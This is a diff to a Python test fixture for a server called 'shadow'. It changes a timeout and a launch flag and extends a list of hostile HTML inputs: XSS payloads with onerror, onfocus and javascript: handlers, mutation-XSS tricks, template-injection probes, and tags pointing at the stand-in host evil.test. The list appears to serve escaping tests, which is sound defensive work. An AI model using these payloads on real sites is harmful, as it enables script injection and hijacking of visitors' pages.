@@ -37,7 +37,7 @@ enough = 10
 [store]
 url = "sqlite:///shadow.db"
 """
-PATIENCE = 20.0
+PATIENCE = 30.0
 """Seconds until something that should have happened is given up."""
 
 expect.set_options(timeout=PATIENCE * 1000)
@@ -137,7 +137,7 @@ def serve(project: Project) -> Iterator[Callable[..., Served]]:
     started: list[subprocess.Popen[str]] = []
 
     def start(*arguments: str, port: int = 0, every: float = 0.1, **environment: str) -> Served:
-        command = [sys.executable, "-m", "shadow", "serve", "--config", str(project.config)]
+        command = [sys.executable, "-P", "-m", "shadow", "serve", "--config", str(project.config)]
         process = subprocess.Popen(
             [*command, "--listen", f"127.0.0.1:{port}", "--every", str(every), *arguments],
             stdout=subprocess.PIPE,
@@ -179,7 +179,8 @@ def hostile_texts() -> list[str]:
         f'"onfocus="{run}"autofocus="',
         f"'><details open ontoggle={run}>",
         f"<a href=javascript:{run}>x</a><form action=//evil.test><input autofocus onfocus={run}>",
-        "<link rel=stylesheet href=//evil.test/x><meta http-equiv=refresh content=0;//evil.test><base href=//evil.test>",
+        "<link rel=stylesheet href=//evil.test/x><meta http-equiv=refresh content=0;//evil.test>",
+        "<base href=//evil.test><object data=//evil.test></object><embed src=//evil.test>",
         f"--><!--]]>&lt;script>{run}&lt;/script>{{{{ 7*7 }}}}{{% raw %}}",
         f"<template><script>{run}</script></template><noscript><p title='</noscript><img src=x onerror={run}>'>",
         f"<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
